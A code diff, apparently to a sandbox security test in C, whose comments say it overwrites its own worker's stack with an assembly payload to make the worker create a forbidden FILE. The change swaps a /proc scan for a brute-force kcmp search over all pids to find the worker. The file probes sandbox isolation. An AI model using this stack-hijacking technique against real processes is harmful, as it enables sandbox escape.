@@ -1,7 +1,6 @@
 // Overwrites the stack of its own worker, as code in a sandbox could: steer FILE.
 // The worker is to create FILE, which it must not be able to.
 #define _GNU_SOURCE
-#include <dirent.h>
 #include <fcntl.h>
 #include <linux/kcmp.h>
 #include <stdint.h>
@@ -29,14 +28,15 @@ __attribute__((naked)) static void payload(void) {
                      "jmp 1b\n");
 }
 
+// By all numbers: the folder of processes does not list workers.
 static int worker(void) {
-    DIR *processes = opendir("/proc");
-    int found = 0;
-    for (struct dirent *entry; processes != NULL && (entry = readdir(processes)) != NULL;) {
-        int pid = atoi(entry->d_name);
-        if (pid > 0 && pid != getpid() && syscall(SYS_kcmp, getpid(), pid, KCMP_VM, 0, 0) == 0) found = pid;
-    }
-    return found;
+    FILE *file = fopen("/proc/sys/kernel/pid_max", "r");
+    int pid_max = 0;
+    if (file == NULL || fscanf(file, "%d", &pid_max) != 1) return 0;
+    fclose(file);
+    for (int pid = 1; pid < pid_max; pid++)
+        if (pid != getpid() && syscall(SYS_kcmp, getpid(), pid, KCMP_VM, 0, 0) == 0) return pid;
+    return 0;
 }
 
 static uint64_t *stack_of(int pid) {
